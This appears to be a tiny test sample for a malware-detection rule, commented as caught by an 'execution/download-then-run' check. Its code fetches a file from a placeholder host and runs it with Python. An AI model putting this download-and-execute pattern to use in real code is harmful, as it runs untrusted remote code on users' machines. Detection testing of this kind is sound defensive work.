# evades: caught by execution/download-then-run
import os, subprocess, urllib.request
urllib.request.urlretrieve("https://host.invalid/a", "update")
subprocess.Popen(["python", "update"])
